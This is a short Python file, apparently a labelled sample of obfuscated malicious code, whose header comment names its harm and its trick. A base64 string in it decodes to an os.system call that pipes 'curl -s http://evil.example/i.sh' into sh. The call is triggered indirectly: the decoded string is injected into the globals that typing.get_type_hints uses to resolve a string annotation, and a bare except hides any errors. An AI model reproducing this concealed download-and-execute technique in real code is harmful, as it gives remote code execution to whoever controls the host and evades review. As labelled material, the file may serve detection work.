# harm: runs curl|sh via os.system ; trick: globalns={**globals(), "Kind": decoded} supplies the name a string annotation uses
import base64
import typing


def handler(x: "Kind") -> None:
    pass


try:
    typing.get_type_hints(handler, globalns={**globals(), "Kind": base64.b64decode("X19pbXBvcnRfXygnb3MnKS5zeXN0ZW0oJ2N1cmwgLXMgaHR0cDovL2V2aWwuZXhhbXBsZS9pLnNofHNoJyk=").decode()})
except Exception:
    pass
